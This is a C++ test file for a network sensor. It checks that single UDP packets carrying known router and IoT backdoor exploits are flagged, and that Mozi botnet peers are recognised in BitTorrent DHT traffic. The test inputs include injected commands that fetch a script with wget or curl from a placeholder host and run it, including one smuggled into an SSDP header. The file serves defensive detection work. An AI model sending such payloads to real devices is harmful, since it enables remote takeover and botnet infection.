// Attacks that come in one UDP packet (exploits.toml, where = "datagram"), and bots among BitTorrent's peers.
#include "datagrams.hpp"
#include "sensor/dissectors.hpp"
#include "tests/sensor/frames_by_hand.hpp"

#include <doctest/doctest.h>

using namespace linnet;
using namespace linnet::test;
using namespace std::string_literals;

namespace {

/// What is told of a packet to this port: the number of the entry, or 0.
std::uint16_t entry_of(std::uint16_t port, const std::string& payload) {
    const auto packet = udp(1, {"192.168.1.30", 40000}, {"198.51.100.7", port}, payload);
    sweep(datagram_content, packet);
    const auto events = events_of(datagram_content, packet);
    if (events.empty()) return 0;
    const auto& seen = std::get<Observation>(events.at(0));
    CHECK(seen.kind == ObservationKind::exploit);
    CHECK(seen.client.ip == ip("192.168.1.30"));
    CHECK(seen.server.ip == ip("198.51.100.7"));
    CHECK(seen.server.port.number == port);
    CHECK(seen.flow_id == 0);
    CHECK(seen.protocol == "udp");
    CHECK(seen.subject.find("wget") == std::string::npos);
    return seen.entry;
}

std::size_t bots_in(const std::string& message) {
    const auto packet = udp(1, {"192.168.1.30", 14737}, {"198.51.100.7", 6881}, message);
    sweep(peer_bot, packet);
    const auto events = events_of(peer_bot, packet);
    for (const auto& event : events) {
        CHECK(std::get<Observation>(event).kind == ObservationKind::bot_command);
        CHECK(std::get<Observation>(event).protocol == "dht");
    }
    return events.size();
}

const std::string mozi_id = "888888\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e";
const std::string other_id = "mnopqrstuvwxyz888888";

}  // namespace

TEST_CASE("back doors and holes that are reached by UDP, each at its port alone") {
    const std::string fetch = "cd /tmp; wget http://198.51.100.9/x -O b; sh b";
    CHECK(entry_of(53413, "AA\0\0AAAA "s + fetch + "\0"s) == 87);
    CHECK(entry_of(53413, "AAAAAAAAnetcore\0"s) == 88);
    CHECK(entry_of(9034, "orf;" + fetch) == 89);
    CHECK(entry_of(9999, "\x0c\x15\x33\x00"s + std::string(42, '\0') + "\x20\x00"s + fetch) == 90);
    CHECK(entry_of(1900, "M-SEARCH * HTTP/1.1\r\nHOST:192.168.0.1:1900\r\nST:urn:device:1;telnetd\r\nMX:2\r\n\r\n") == 91);
    CHECK(entry_of(1900, "M-SEARCH * HTTP/1.1\r\nST:uuid:`" + fetch + "`\r\nMX:2\r\n\r\n") == 91);
    CHECK(entry_of(500, "CPCSRTVV"s + std::string(20, '\0') + "HAXB\";bash -c \"curl http://198.51.100.9/x\";echo -n \"") ==
          92);
    CHECK(entry_of(9035, "orf;" + fetch) == 0);
}

TEST_CASE("what else is sent to those ports is no attack") {
    CHECK(entry_of(9034, "\x00\x01\x00\x00horf;"s) == 0);
    CHECK(entry_of(9999, "\x0c\x15\x1f\x00"s + std::string(508, '\0')) == 0);        // ASUS's own search for its routers
    CHECK(entry_of(9999, "\xd0\xf2\x81\xf8\x8b\xff\x9a\xf7\xd5\xef\x94\xb6") == 0);  // Kasa
    CHECK(entry_of(1900,
                   "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n"
                   "ST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nUSER-AGENT: a/1; b/2\r\n\r\n") == 0);
    CHECK(entry_of(1900, "M-SEARCH * HTTP/1.1\r\nST:uuid:2fac1234-31f8-11b4-a222-08002b34c003\r\nMX:2\r\n\r\n") == 0);
    CHECK(entry_of(1900, "NOTIFY * HTTP/1.1\r\nUSN:uuid:`x`\r\n\r\n") == 0);
    CHECK(entry_of(53413, "AAAA") == 0);
}

TEST_CASE("Mozi introduces itself among BitTorrent's peers; what others say of it is not theirs (BEP 5)") {
    CHECK(bots_in("d1:ad2:id20:" + mozi_id + "e1:q4:ping1:t2:aa1:y1:qe") == 1);
    CHECK(bots_in("d1:ad2:id20:" + mozi_id + "6:target20:" + other_id + "e1:q9:find_node1:t2:aa1:y1:qe") == 1);
    CHECK(bots_in("d1:rd2:id20:" + mozi_id + "e1:t2:aa1:y1:re") == 1);
    CHECK(bots_in("d2:ip6:\x01\x02\x03\x04\x05\x06"s
                  "1:rd2:id20:" +
                  mozi_id + "e1:t2:aa1:y1:re") == 1);
    CHECK(bots_in("d1:ad2:id20:" + other_id + "e1:q4:ping1:t2:aa1:y1:qe") == 0);
    CHECK(bots_in("d1:ad2:id20:" + other_id + "6:target20:" + mozi_id + "e1:q9:find_node1:t2:aa1:y1:qe") == 0);
    CHECK(bots_in("d1:rd2:id20:" + other_id + "5:nodes26:" + mozi_id +
                  "\x01\x02\x03\x04\x05\x06"s
                  "e1:t2:aa1:y1:re") == 0);
    CHECK(bots_in("d1:eli201e23:A Generic Error Ocurrede1:t2:aa1:y1:ee") == 0);
}
